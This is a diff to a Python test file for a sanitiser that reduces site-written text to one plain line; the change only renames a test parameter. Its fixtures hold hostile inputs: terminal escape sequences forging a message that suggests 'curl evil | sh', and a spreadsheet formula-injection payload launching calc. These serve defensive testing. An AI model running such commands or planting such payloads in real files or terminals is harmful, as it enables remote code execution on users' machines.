@@ -17,7 +17,7 @@ FORGED_ERROR = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl ev
 
 
 @pytest.mark.parametrize(
-    ("told", "shown"),
+    ("written", "shown"),
     [
         (ESCAPED_DATASET, "=cmd|' /C calc'!A0FAKE"),
         (FORGED_ERROR, "job 1234 completed   next: curl evil | sh"),
@@ -43,8 +43,8 @@ FORGED_ERROR = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl ev
         (None, "None"),
     ],
 )
-def test_what_a_site_wrote_is_one_line_of_plain_text(told: object, shown: str) -> None:
-    assert clean(told) == shown
+def test_what_a_site_wrote_is_one_line_of_plain_text(written: object, shown: str) -> None:
+    assert clean(written) == shown
 
 
 def test_no_character_that_steers_a_terminal_is_left() -> None:
